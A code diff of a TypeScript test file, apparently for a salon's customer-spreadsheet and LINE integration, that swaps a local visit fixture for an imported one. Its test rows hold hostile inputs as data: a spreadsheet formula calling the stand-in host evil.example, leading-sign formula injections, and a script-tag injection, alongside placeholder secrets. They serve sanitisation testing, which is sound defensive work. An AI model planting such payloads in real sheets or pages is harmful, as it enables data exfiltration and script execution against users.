@@ -5,6 +5,7 @@
  */
 import type { CellValue, FetchRequest, FetchResponse } from '../fakes';
 import {
+  SECOND_VISIT,
   lineStandIn,
   customerSheet,
   dateCell,
@@ -20,17 +21,16 @@ const CHANNEL_SECRET = 'CHSECRET-1b2c3d4e5f60718293a4';
 const WEBHOOK_SECRET = 'HOOK-9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b';
 const SECRETS = [TOKEN, CHANNEL_SECRET, WEBHOOK_SECRET];
 
-const visit = { 最終来店日: dateCell('2026-11-20'), 来店回数: 2, カテゴリ: '整体', 購入商品: '骨盤調整60分' };
 /** Customer text as pasted from other systems: formulas, signs, markup. */
 const HOSTILE: Record<string, CellValue>[] = [
-  { 顧客ID: 'F1', 氏名: '=IMPORTXML("http://evil.example","//a")', メール: 'f1@example.jp', ...visit },
-  { 顧客ID: 'F2', 氏名: '+81 佐藤', LINEユーザーID: `U${'2'.repeat(32)}`, ...visit },
-  { 顧客ID: 'F3', 氏名: '-1 鈴木', 郵便番号: '154-0004', 住所: '@東京都世田谷区1-2-3', ...visit },
+  { 顧客ID: 'F1', 氏名: '=IMPORTXML("http://evil.example","//a")', メール: 'f1@example.jp', ...SECOND_VISIT },
+  { 顧客ID: 'F2', 氏名: '+81 佐藤', LINEユーザーID: `U${'2'.repeat(32)}`, ...SECOND_VISIT },
+  { 顧客ID: 'F3', 氏名: '-1 鈴木', 郵便番号: '154-0004', 住所: '@東京都世田谷区1-2-3', ...SECOND_VISIT },
   {
     顧客ID: 'F4',
     氏名: '<script>alert(1)</script>',
     メール: 'f4@example.jp',
-    ...visit,
+    ...SECOND_VISIT,
     購入商品: '<b>ヘッドスパ</b>',
   },
   {
